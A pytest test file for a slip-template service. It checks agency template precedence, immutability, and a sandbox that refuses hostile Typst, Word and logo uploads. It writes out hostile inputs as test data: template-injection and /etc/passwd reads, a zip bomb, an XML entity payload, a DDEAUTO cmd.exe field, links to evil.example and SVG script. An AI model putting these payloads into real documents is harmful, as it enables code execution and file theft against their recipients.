"""Which template stands for whom, and that no template from outside hangs, grows or reads: it is refused with its line."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from PIL import Image, PngImagePlugin
from sqlalchemy import Connection, text
from sqlalchemy.exc import ProgrammingError

from app.slips.checking import TemplateGuard, TemplateUnprintable
from app.slips.docx import builtin_docx
from app.slips.replacing import current_template, logo_by_id, logo_of, template_by_id
from app.store import slip_templates
from app.views.slip_templates import builtin_file
from tests import factories
from tests.fixtures.application import Writing
from tests.slips.test_docx import picture
from tests.slips.word_files import part_of, rewritten, word_file

DAY = date(2026, 11, 23)
RECEIPT, SUPPLEMENT = "tt01-2018/01", "tt01-2018/02"
WORD = word_file("Mã hồ sơ {{ code }}")
RELATIONSHIPS = "word/_rels/document.xml.rels"
DOCUMENT = "word/document.xml"
ENDLESS = "{% for i in range(99999) %}{% for j in range(99999) %}{% endfor %}{% endfor %}"


@pytest.fixture(scope="module")
def guard() -> Iterator[TemplateGuard]:
    """One process for all."""
    with TemplateGuard(time_limit=30.0) as made:
        yield made


def typst(*lines: str) -> bytes:
    return "\n".join(lines).encode()


# Whose template stands ----------------------------------------------------------------------------------------------------


@pytest.fixture
def rows(writing: Writing) -> Iterator[tuple[Connection, dict[str, int], Any]]:
    """A commune below a department below the province's office, and a way to add templates."""
    with writing() as connection:
        office = factories.agency(connection, "TINH", level=1)
        health = factories.agency(connection, "SO", parent_id=office)
        ward = factories.agency(connection, "XA", level=3, parent_id=health)
        other = factories.agency(connection, "KHAC")
        admin = factories.account(connection, "admin", office)

        def add(agency_id: int | None, **values: Any) -> int:
            plain = {
                "form": SUPPLEMENT,
                "format": "typst",
                "content": b"x",
                "sha256": "0" * 64,
                "media_type": "text/vnd.typst",
                "valid_from": DAY,
                "uploaded_at": datetime.now(UTC),
                "uploaded_by": admin,
                "taken_at": datetime.now(UTC),
            }
            return slip_templates.add_template(connection, plain | {"agency_id": agency_id} | values)

        yield connection, {"office": office, "health": health, "ward": ward, "other": other, "admin": admin}, add


def standing(connection: Connection, agency_id: int | None, day: date = DAY) -> int | None:
    found = current_template(connection, SUPPLEMENT, agency_id, "typst", day)
    return found.id if found else None


def test_an_agency_prints_with_its_own_else_with_that_of_those_above_else_with_the_provinces(rows: Any) -> None:
    connection, agencies, add = rows
    assert standing(connection, agencies["ward"]) is None
    province = add(None)
    assert {standing(connection, agencies[name]) for name in ("ward", "health", "other")} == {province}
    assert standing(connection, None) == province
    department = add(agencies["health"])
    assert standing(connection, agencies["ward"]) == standing(connection, agencies["health"]) == department
    assert standing(connection, agencies["other"]) == province
    own = add(agencies["ward"])
    assert standing(connection, agencies["ward"]) == own
    assert standing(connection, agencies["health"]) == department
    assert standing(connection, None) == province


def test_the_one_that_began_last_counts_from_its_day_and_none_that_is_looked_at_or_withdrawn(rows: Any) -> None:
    connection, agencies, add = rows
    first = add(agencies["health"])
    later = add(agencies["health"], valid_from=DAY + timedelta(days=7))
    corrected = add(agencies["health"])
    draft = add(agencies["health"], taken_at=None)
    days = [DAY - timedelta(days=1), DAY, DAY + timedelta(days=6), DAY + timedelta(days=7)]
    assert [standing(connection, agencies["health"], day) for day in days] == [None, corrected, corrected, later]
    now = datetime.now(UTC)
    assert slip_templates.withdraw_template(connection, corrected, agencies["admin"], now)
    assert not slip_templates.withdraw_template(connection, corrected, agencies["admin"], now)
    assert standing(connection, agencies["health"]) == first
    assert slip_templates.take_template(connection, draft, now)
    assert standing(connection, agencies["health"]) == draft
    kept = template_by_id(connection, corrected)
    assert kept is not None, "a slip that was printed with it prints so again"
    assert kept.content == b"x"


def test_forms_and_formats_do_not_stand_for_each_other(rows: Any) -> None:
    connection, agencies, add = rows
    add(None, form=RECEIPT)
    add(None, format="docx")
    assert standing(connection, agencies["health"]) is None
    assert current_template(connection, SUPPLEMENT, agencies["health"], "docx", DAY) is not None


def test_a_logo_is_for_every_form(rows: Any) -> None:
    connection, agencies, add = rows
    assert logo_of(connection, agencies["ward"], DAY) is None
    logo = add(agencies["health"], form=None, format="logo", media_type="image/png", content=picture())
    found = logo_of(connection, agencies["ward"], DAY)
    assert found is not None
    assert (found.id, found.media_type, found.content) == (logo, "image/png", picture())
    assert logo_of(connection, agencies["other"], DAY) is None
    slip_templates.withdraw_template(connection, logo, agencies["admin"], datetime.now(UTC))
    assert logo_of(connection, agencies["ward"], DAY) is None
    assert logo_by_id(connection, logo) == found


@pytest.mark.parametrize(
    "statement",
    [
        "UPDATE slip_templates SET content = 'y'",
        "UPDATE slip_templates SET valid_from = '2020-01-01'",
        "DELETE FROM slip_templates",
    ],
)
def test_what_was_printed_with_cannot_be_changed(rows: Any, statement: str) -> None:
    connection, _, add = rows
    add(None)
    with pytest.raises(ProgrammingError, match="permission denied"), connection.begin_nested():
        connection.execute(text(statement))


# What is taken ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("key", ["tt01-2018/01", "tt01-2018/05", "tt03-2025/07", "office/fee_receipt"])
def test_what_is_built_in_may_be_sent_back(guard: TemplateGuard, key: str) -> None:
    assert guard.check(key, "docx", builtin_docx(key)) == []
    assert guard.check(key, "typst", builtin_file(f"{key}.typ")[1]) == []


def test_a_template_of_ones_own_is_taken_and_printed(guard: TemplateGuard) -> None:
    source = typst("#let d = json(bytes(sys.inputs.content))", "= #d.code", "#d.applicant_name")
    assert guard.check(RECEIPT, "typst", source) == []
    assert guard.print_sample(RECEIPT, "typst", source).startswith(b"%PDF-")
    (first, *_) = guard.pictures(RECEIPT, source)
    assert Image.open(io.BytesIO(first)).format == "PNG"
    assert guard.check(RECEIPT, "docx", WORD) == []
    assert guard.lines(RECEIPT, WORD) == ["Mã hồ sơ 000.00.12.H50-261121-0001"]


@pytest.mark.rule("QT-14.1")
def test_a_receipt_that_does_not_show_the_dossiers_code_is_not_taken(guard: TemplateGuard) -> None:
    for kind, content in (("typst", typst("#let d = 1", "Giấy tiếp nhận")), ("docx", word_file("Giấy tiếp nhận"))):
        (told,) = guard.check(RECEIPT, kind, content)
        assert "mã hồ sơ" in told.message
        assert guard.check(SUPPLEMENT, kind, content) == []


# typst --------------------------------------------------------------------------------------------------------------------

READ = "#let d = json(bytes(sys.inputs.content))"


@pytest.mark.parametrize(
    ("lines", "line", "words"),
    [
        (["a", "#while true {}"], 2, "không bao giờ dừng"),
        ([READ, "", "#d.cod"], 3, "cod"),
        (["#let a =", "b", "#foo("], 1, "Sai cú pháp"),
        (["a", '#read("/etc/passwd")'], 2, "Không có tệp"),
        (['#read("../forms.py")'], 1, "không được đọc"),
        (["a", '#image("https://example.org/x.png")'], 2, ""),
        (["a", '#import "@preview/cetz:0.3.0": *'], 2, "import"),
        (["a", "b", '#import ("@pre" + "view/cetz:0.3.0"): *'], 3, "import"),
        (["#let f(x) = f(x) + 1", "#f(1)"], 1, "lồng nhau"),
        (["a", '#panic("hỏng")'], 2, "hỏng"),
        (['#import "common.typ": *', "", "#lines(1, 2, 3, 4)"], 3, ""),
        ([READ, "#if d.applicant_address.len() > 3 [#d.khong_co]"], 2, "khong_co"),
    ],
)
def test_a_typst_template_that_does_not_print_is_refused_with_its_line(
    guard: TemplateGuard, lines: list[str], line: int, words: str
) -> None:
    told = guard.check(SUPPLEMENT, "typst", typst(*lines))[0]
    assert (told.line, told.text) == (line, lines[line - 1])
    assert words in told.message
    assert "/work" not in told.message


def test_a_branch_that_only_empty_fields_reach_is_tried_too(guard: TemplateGuard) -> None:
    (told,) = guard.check(SUPPLEMENT, "typst", typst(READ, '#if d.code == "" [#d.nothing]'))
    assert (told.line, "để trống" in told.message) == (2, True)


@pytest.mark.parametrize(
    ("source", "seconds", "words"),
    [
        ("#range(10000000000).len()", 30.0, "bộ nhớ"),
        ("#for i in range(9999) { for j in range(99999) { let x = calc.sin(i + j) } }", 1.5, "quá lâu"),
    ],
)
def test_a_typst_template_that_takes_the_machine_is_stopped(source: str, seconds: float, words: str) -> None:
    with TemplateGuard(time_limit=seconds) as hurried:
        (told,) = hurried.check(SUPPLEMENT, "typst", source.encode())
    assert (told.line, words in told.message) == (None, True), told


@pytest.mark.parametrize("content", [b"", b" \n", b"\xff\xfea\x00", b"a\x00b", b"x" * (256 * 1024 + 1)])
def test_what_is_no_typst_text_is_refused(guard: TemplateGuard, content: bytes) -> None:
    assert guard.check(SUPPLEMENT, "typst", content) != []


# Word ---------------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("tag", "words"),
    [
        ("{% for i in range(10**9) %}x{% endfor %}", "quá lớn"),
        ("{{ ''.__class__ }}", "__class__"),
        ("{{ cod }}", "cod"),
        ("{% include '/etc/passwd' %}", ""),
        ("{% for row in components %}", "thẻ đóng"),
    ],
)
def test_a_word_template_that_does_not_print_is_refused_with_its_paragraph(
    guard: TemplateGuard, tag: str, words: str
) -> None:
    (told,) = guard.check(RECEIPT, "docx", word_file("{{ code }}", "", f"a {tag}"))
    assert (told.line, told.text) == (3, f"a {tag}")
    assert words in told.message


@pytest.mark.parametrize(
    ("tag", "seconds", "words"),
    [
        (ENDLESS, 1.5, "quá lâu"),
        ("{{ code | center(10000000000) }}", 30.0, "bộ nhớ"),
    ],
)
def test_a_word_template_that_takes_the_machine_is_stopped(tag: str, seconds: float, words: str) -> None:
    with TemplateGuard(time_limit=seconds) as hurried:
        (told,) = hurried.check(RECEIPT, "docx", word_file("{{ code }}", tag))
    assert (told.line, words in told.message) == (None, True), told


def bomb() -> bytes:
    """64 MB of blanks that take 64 kB."""
    return rewritten(WORD, {"word/media/image1.png": b" " * (64 * 1024 * 1024)})


def many_parts() -> bytes:
    return rewritten(WORD, {f"word/media/{number}.png": b"x" for number in range(400)})


def relationship(target: str, kind: str) -> bytes:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    added = f'<Relationship Id="rId99" Type="{base}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    return part_of(WORD, RELATIONSHIPS).replace(b"</Relationships>", added.encode())


def field_code(code: str) -> bytes:
    run = f"<w:p><w:r><w:instrText>{code}</w:instrText></w:r></w:p><w:sectPr"
    return part_of(WORD, DOCUMENT).replace(b"<w:sectPr", run.encode(), 1)


def with_macro_type() -> bytes:
    types = part_of(WORD, "[Content_Types].xml")
    return types.replace(b"document.main+xml", b"document.macroEnabled.main+xml")


@cache
def hostile_files() -> dict[str, bytes]:
    entity = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]>' + part_of(WORD, DOCUMENT).partition(b"?>")[2]
    plain = io.BytesIO()
    with zipfile.ZipFile(plain, "w") as packed:
        packed.writestr("readme.txt", "x")
    return {
        "text": b"Xin ch\xc3\xa0o",
        "empty": b"",
        "cut": WORD[: len(WORD) // 2],
        "some zip": plain.getvalue(),
        "bomb": bomb(),
        "many parts": many_parts(),
        "no document": rewritten(WORD, {DOCUMENT: None}),
        "broken document": rewritten(WORD, {DOCUMENT: b"<w:document"}),
        "entities": rewritten(WORD, {DOCUMENT: entity}),
        "macro": rewritten(WORD, {"word/vbaProject.bin": b"x"}),
        "macro type": rewritten(WORD, {"[Content_Types].xml": with_macro_type()}),
        "embedded": rewritten(WORD, {"word/embeddings/oleObject1.bin": b"x"}),
        "remote picture": rewritten(WORD, {RELATIONSHIPS: relationship("http://evil.example/a.png", "image")}),
        "remote template": rewritten(WORD, {RELATIONSHIPS: relationship("http://evil.example/t", "attachedTemplate")}),
        "file link": rewritten(WORD, {RELATIONSHIPS: relationship("file:///etc/passwd", "hyperlink")}),
        "dde": rewritten(WORD, {DOCUMENT: field_code("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")}),
        "remote field": rewritten(WORD, {DOCUMENT: field_code("INCLUDEPICTURE http://evil.example/a.png")}),
        "too large": WORD + b"x" * (2 * 1024 * 1024),
    }


@pytest.mark.parametrize("name", sorted(hostile_files()))
def test_a_file_that_is_no_harmless_word_file_is_refused(guard: TemplateGuard, name: str) -> None:
    process = guard.worker.process
    (told,) = guard.check(RECEIPT, "docx", hostile_files()[name])
    assert told.message
    assert guard.worker.process is process or process is None, "it was refused, not survived"


def test_links_that_people_may_follow_are_taken(guard: TemplateGuard) -> None:
    linked = rewritten(WORD, {RELATIONSHIPS: relationship("https://dichvucong.gov.vn", "hyperlink")})
    assert guard.check(RECEIPT, "docx", linked) == []


# Logos --------------------------------------------------------------------------------------------------------------------


def test_a_logo_is_drawn_anew_without_what_else_was_in_the_file(guard: TemplateGuard) -> None:
    out, said = io.BytesIO(), PngImagePlugin.PngInfo()
    said.add_text("comment", "<script>alert(1)</script>")
    Image.new("RGBA", (200, 100), (0, 0, 0, 0)).save(out, format="PNG", pnginfo=said)
    problems, logo = guard.check_logo(out.getvalue() + b"<script>")
    assert problems == []
    assert logo is not None
    assert (logo.media_type, b"script" in logo.content) == ("image/png", False)
    kept = Image.open(io.BytesIO(logo.content))
    assert (kept.size, kept.mode) == ((200, 100), "RGBA")
    problems, logo = guard.check_logo(picture("JPEG"))
    assert (problems, logo and logo.media_type) == ([], "image/jpeg")


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        b"\x89PNG\r\n\x1a\n" + b"x" * 100,
        picture("GIF"),
        picture(size=(31, 200)),
        picture(size=(2001, 40)),
        picture()[:60],
        b"x" * (1024 * 1024 + 1),
    ],
    ids=["empty", "svg", "broken", "gif", "small", "wide", "cut", "large"],
)
def test_what_is_no_picture_for_a_head_is_refused(guard: TemplateGuard, content: bytes) -> None:
    problems, logo = guard.check_logo(content)
    assert logo is None
    (told,) = problems
    assert told.message


def test_a_picture_that_says_it_is_enormous_is_refused_by_its_head_alone(guard: TemplateGuard) -> None:
    tall = bytearray(picture())
    tall[16:24] = (60_000).to_bytes(4, "big") * 2
    tall[29:33] = zlib.crc32(tall[12:29]).to_bytes(4, "big")
    problems, logo = guard.check_logo(bytes(tall))
    assert logo is None
    assert "điểm ảnh" in problems[0].message or "đọc được" in problems[0].message


def test_the_process_serves_on_after_a_breach() -> None:
    with TemplateGuard(time_limit=1.5) as hurried:
        assert hurried.check(RECEIPT, "docx", word_file(ENDLESS))
        with pytest.raises(TemplateUnprintable):
            hurried.print_sample(RECEIPT, "typst", b"#while true {}")
        hurried.worker.time_limit = 30.0
        assert hurried.print_sample(RECEIPT, "docx", None).startswith(b"PK")


def test_the_process_knows_no_passwords_and_has_no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DATABASE_URL", "postgresql://app:secret@127.0.0.1/x")
    with TemplateGuard() as made:
        assert made.check(SUPPLEMENT, "docx", word_file("x")) == []
        assert made.worker.process is not None
        kept = Path(f"/proc/{made.worker.process.pid}/environ").read_bytes()
    assert (b"secret" in kept, b"HTTPS_PROXY=http://127.0.0.1:9" in kept) == (False, True)
